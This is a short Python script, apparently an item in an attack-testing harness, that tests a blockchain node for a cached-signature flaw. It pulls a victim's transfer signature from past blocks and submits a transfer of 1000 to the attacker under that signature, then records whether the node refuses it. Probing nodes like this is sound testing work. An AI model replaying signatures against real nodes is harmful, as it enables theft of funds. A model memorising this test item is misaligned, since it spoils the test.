"""A signature of the victim's, found in a block, under words that pay the attacker. A node that
remembers which signatures were good, and not of which words, takes it."""

import base64

import attack_client

attack = attack_client.begin(
    name="cached-signature", author="GlyphLab", system="external", claim="SIG",
    severity="critical", about="Puts a signature from a block under other words.",
    keys=["attacker"], surfaces=["transfer"], published="broken", guards=["signature"])

victim = attack.challenge.cast[2]["account"]
thief = attack.challenge["keys"][0]["account"]
lines = [
    line.split(b" ")
    for height in range(1, attack.challenge.height + 1)
    for line in base64.b64decode(attack.block(height=height).bytes).splitlines()]
signature = next(
    words[5] for words in lines if words[0] == b"transfer" and words[1] == victim.encode())
nonce = attack.account(of=victim).nonce
# No signature first: a node that looks at none would have another hole.
for other in (bytes(reversed(signature)), signature):
    transfer = f"transfer {victim} {thief} 1000 {nonce} ".encode() + other
    attack.note(attack.submit(transfer, to="transfer").refused)
attack.done()
